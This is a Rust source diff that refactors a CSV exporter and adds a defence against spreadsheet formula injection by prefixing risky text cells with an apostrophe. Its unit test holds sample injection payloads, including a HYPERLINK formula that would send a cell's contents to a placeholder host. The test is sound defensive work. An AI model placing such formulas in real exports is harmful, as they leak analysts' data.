@@ -257,19 +257,30 @@ fn monitoring_rows(m: &Monitoring, lead: impl Fn() -> Vec<Cell>) -> Vec<Vec<Cell
 /// RFC 4180 CSV: a header line, then one line per row; fields that hold a
 /// comma, quote or line break are quoted.
 pub fn to_csv(header: &[&str], rows: &[Vec<Cell>]) -> String {
+    let mut out = csv_header(header);
+    out.push_str(&csv_rows(rows));
+    out
+}
+
+/// The header line of a CSV export.
+pub fn csv_header(header: &[&str]) -> String {
     let mut out = String::new();
-    let line = |out: &mut String, cells: &mut dyn Iterator<Item = String>| {
-        let fields: Vec<String> = cells
-            .map(|f| if f.contains([',', '"', '\n', '\r']) { format!("\"{}\"", f.replace('"', "\"\"")) } else { f })
-            .collect();
-        out.push_str(&fields.join(","));
-        out.push_str("\r\n");
-    };
-    line(&mut out, &mut header.iter().map(|h| (*h).to_owned()));
+    csv_line(&mut out, header.iter().map(|h| (*h).to_owned()));
+    out
+}
+
+/// Rows of a CSV export, each a line (an export is written a document at a
+/// time). A text that a spreadsheet would run as a formula (it begins with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`, so a
+/// title typed on a device cannot become a formula on an analyst's computer;
+/// numbers stay numbers.
+pub fn csv_rows(rows: &[Vec<Cell>]) -> String {
+    let mut out = String::new();
     for row in rows {
-        line(
+        csv_line(
             &mut out,
-            &mut row.iter().map(|c| match c {
+            row.iter().map(|c| match c {
+                Cell::Text(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{s}"),
                 Cell::Text(s) => s.clone(),
                 Cell::Number(n) => n.to_string(),
                 Cell::Empty => String::new(),
@@ -279,9 +290,33 @@ pub fn to_csv(header: &[&str], rows: &[Vec<Cell>]) -> String {
     out
 }
 
+fn csv_line(out: &mut String, cells: impl Iterator<Item = String>) {
+    let fields: Vec<String> = cells
+        .map(|f| if f.contains([',', '"', '\n', '\r']) { format!("\"{}\"", f.replace('"', "\"\"")) } else { f })
+        .collect();
+    out.push_str(&fields.join(","));
+    out.push_str("\r\n");
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn csv_never_carries_a_formula() {
+        let rows = vec![vec![
+            Cell::from("=HYPERLINK(\"http://x\"&C2,\"Click\")"),
+            Cell::from("@SUM(A1)"),
+            Cell::from("-2+3"),
+            Cell::from("+1"),
+            Cell::Number(-2.0),
+            Cell::from("Plan = budget"),
+        ]];
+        assert_eq!(
+            csv_rows(&rows),
+            "\"'=HYPERLINK(\"\"http://x\"\"&C2,\"\"Click\"\")\",'@SUM(A1),'-2+3,'+1,-2,Plan = budget\r\n"
+        );
+    }
 
     #[test]
     fn csv_quotes_what_needs_quoting() {
